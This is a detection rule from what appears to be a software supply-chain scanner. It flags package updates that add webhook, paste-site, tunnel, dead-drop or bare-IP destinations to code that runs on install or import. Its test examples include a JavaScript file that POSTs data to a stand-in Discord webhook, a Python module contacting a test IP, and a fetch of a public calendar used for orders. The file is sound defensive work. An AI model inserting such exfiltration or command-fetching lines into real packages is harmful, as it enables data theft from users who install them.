"""This update names a place that payloads send to or take orders from, in code that runs by itself.

## What it detects
The address of a web hook, a messenger's robot, a paste or drop site, a call-back or tunnel service, a chain's gateway,
a page that anybody may write (a calendar, a gist, a profile) or a bare public IP address, in a file that is loaded at
installation or import, of a sort that the line never named. At first contact only web hooks, messengers and call-backs
in code that runs at installation are asked.

## Why it matters
Such places need no registration and no server of one's own, so payloads use them; a library hardly ever does.

## What it misses
Domains that were registered for the purpose; addresses that are fetched or computed.

## References
- MITRE ATT&CK T1567, Exfiltration Over Web Service; T1102, Web Service
"""

from collections.abc import Iterator

from lazaretto.core.destination import destination
from lazaretto.core.facts import Kind, Reach
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import AUTORUN, Tally, decoded, package_json
from lazaretto.core.update import ArtifactView, Pair, Placed, Update

CARD = Card(
    id="exfil-literal-added",
    title="Address that payloads use",
    variants={
        "hook": "A web hook, a messenger's robot or a call-back service is named, new to the line.",
        "relay": "A paste or drop site, a tunnel or a hidden service is named, new to the line.",
        "address": "A bare public IP address is contacted, new to the line.",
        "chain": "The gateway of a chain is named, new to the line.",
        "dead-drop": "A page that anybody may write (a calendar, a gist, a profile) is named, new to the line.",
        "first-contact": "There is no earlier release; code at installation names a web hook, robot or call-back.",
    },
    group="flow",
    why="These services take anything from anybody and ask nobody's name.",
    attack=("T1195.002", "T1567", "T1102"),
)

_VARIANT = {
    "webhook": "hook", "messenger": "hook", "callback": "hook", "paste": "relay", "drop": "relay", "tunnel": "relay",
    "hidden-service": "relay", "address": "address", "chain": "chain",
    "dead-drop": "dead-drop",
}  # fmt: skip
_KINDS = (Kind.LITERAL_URL, Kind.LITERAL_DOMAIN, Kind.LITERAL_IP, Kind.NET_CONNECT, Kind.DNS_QUERY, Kind.PROCESS_SPAWN)
_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}

EXAMPLES = (
    Example(
        title="the entry file names a web hook of a chat service",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const hook = 'https://discord.com.invalid/api/webhooks/1/abc';\n"
            "module.exports = (a) => fetch(hook, { method: 'POST', body: a });\n",
        },
        expect="hook",
        at="index.js:1",
    ),
    Example(
        title="a Python package contacts a bare address",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import urllib.request\nurllib.request.urlopen('http://203.0.113.9:8080/a')\nWIDTH = 2\n"
        },
        expect="address",
        at="pad/__init__.py:2",
    ),
    Example(
        title="the entry file reads an event of a public calendar",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const orders = fetch('https://calendar.app.google.invalid/M2ZCvM8ULL56PD1d6');\n"
            "module.exports = (a) => a;\n",
        },
        expect="dead-drop",
        at="index.js:1",
    ),
    Example(
        title="a client names its own service",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "module.exports = (a) => fetch('https://api.invalid/v2/' + a);\n",
        },
    ),
    Example(
        title="an address of the machine itself, and a version number",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.version = '3.1.4.15';\nexports.url = 'http://127.0.0.1:8080/';\n",
        },
    ),
)

_MESSAGES = {
    "hook": "names a web hook, a messenger's robot or a call-back service",
    "relay": "names a paste or drop site, a tunnel or a hidden service",
    "address": "contacts a bare public address",
    "chain": "names the gateway of a chain",
    "dead-drop": "names a page that anybody may write, from which orders are read",
    "first-contact": "names, in code that runs at installation, a place that payloads send to",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant."""
    tally = Tally(CARD)
    for pair in update.pairs:
        had = _sorts(pair.before) if pair.before else frozenset()
        for placed in pair.gained(*_KINDS):
            sort = _sort(placed) if pair.after.reaches.get(placed.path) in AUTORUN else None
            if sort is None or sort in had:
                continue
            variant = _VARIANT[sort] if pair.before else _at_first_contact(pair, placed, sort)
            if variant:
                tally.add(variant, pair, placed)
                tally.explain(variant, decoded(pair, placed.path))
    yield from tally.findings(_MESSAGES)


def _sort(placed: Placed) -> str | None:
    """Return the sort; a bare address alone is left out, since version numbers look the same."""
    sort = destination(placed.fact.value)
    return None if sort == "address" and placed.fact.kind is Kind.LITERAL_IP else sort


def _sorts(view: ArtifactView) -> frozenset[str | None]:
    return frozenset(_sort(placed) for placed in view.placed if placed.fact.kind in _KINDS)


def _at_first_contact(pair: Pair, placed: Placed, sort: str) -> str | None:
    at_installation = pair.after.reaches.get(placed.path) is Reach.INSTALL
    return "first-contact" if at_installation and _VARIANT[sort] == "hook" else None
